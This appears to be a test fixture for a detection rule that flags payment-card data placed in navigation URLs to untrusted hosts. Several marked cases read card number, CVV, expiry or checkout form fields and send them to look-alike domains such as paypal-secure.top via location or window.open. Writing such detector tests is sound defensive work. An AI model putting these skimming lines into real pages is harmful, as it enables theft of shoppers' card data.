// Tests for card-data-in-navigation: card or form data in the URL of a navigation or
// window.open to an untrusted host. Findings are reported on the navigation. Sections are
// separate scripts.

var n = document.getElementById('cc_number').value;
// ruleid: card-data-in-navigation
location.href = 'https://secure-paygate.xyz/continue?d=' + btoa(n);

// ---
// window.open with the serialised form as JSON, URL-encoded.
var fields = jQuery('#checkout').serializeArray();
// ruleid: card-data-in-navigation
window.open('https://cdn-analytics-metrics.top/r?p=' + encodeURIComponent(JSON.stringify(fields)), '_blank');

// ---
// location.assign through a helper function, to a look-alike of PayPal.
function go(q) {
  // ruleid: card-data-in-navigation
  window.location.assign('https://paypal-secure.top/checkout?' + q);
}
go('cvv=' + document.querySelector('#cc_cvv').value);

// ---
// top.location set to a look-alike with card data in a template literal.
var exp = document.querySelector('[autocomplete="cc-exp"]').value;
// ruleid: card-data-in-navigation
top.location = `https://stripe-api.top/3ds?e=${exp}`;

// ---
// The site's own confirmation page (relative URL) with the last four digits.
var num = document.getElementById('card-number').value;
// ok: card-data-in-navigation
location.href = '/checkout/confirm?last4=' + num.slice(-4);

// ---
// Redirect to a processor's hosted payment page.
var ccForm = document.querySelector('#cc-number').value;
// ok: card-data-in-navigation
window.location.href = 'https://www.paypal.com/cgi-bin/webscr?cmd=_xclick&acct=' + ccForm;

// ---
// Redirect to a hosted checkout session: no card data in the URL.
var sessionId = document.getElementById('session-id').value;
// ok: card-data-in-navigation
window.location.href = 'https://checkout.pay-provider.example.net/session/' + sessionId;
